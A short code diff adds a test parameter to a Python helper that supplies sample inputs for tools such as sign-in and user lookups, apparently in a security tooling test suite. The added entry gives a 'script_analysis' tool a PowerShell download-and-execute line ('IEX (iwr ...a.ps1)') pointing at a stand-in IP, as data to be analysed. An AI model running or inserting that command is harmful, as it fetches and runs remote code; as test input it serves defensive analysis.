@@ -39,6 +39,7 @@ def _params(key: dict[str, Any]) -> dict[str, dict[str, Any]]:
         "risky_user_summary": {"user": personas["eve"]["id"]},
         "risky_users": {},
         "role_holders": {},
+        "script_analysis": {"script": "IEX (iwr http://203.0.113.9/a.ps1)", "name": "a.ps1"},
         "signin_summary": {},
         "signin_troubleshoot": {"user": personas["lockout_user"]["id"]},
         "user_details": {"user": alice},
